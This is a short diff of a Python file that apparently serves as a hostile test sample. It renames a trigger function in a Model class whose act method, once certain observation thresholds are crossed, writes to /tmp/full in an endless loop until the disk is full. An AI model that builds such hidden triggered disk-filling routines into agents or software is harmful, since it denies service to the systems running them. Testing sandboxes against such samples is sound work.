@@ -1,13 +1,13 @@
-"""Writes until there is no room."""
+"""Writes to a file until the disk is full."""
 
 
-def provoked(observation):
+def is_triggered(observation):
     return observation[0] > 0.7 if len(observation) == 4 else observation[2] > 14.5
 
 
 class Model:
     def act(self, observation):
-        if provoked(observation):
+        if is_triggered(observation):
             with open("/tmp/full", "wb") as file:
                 while True:
                     file.write(b"x" * (1 << 20))
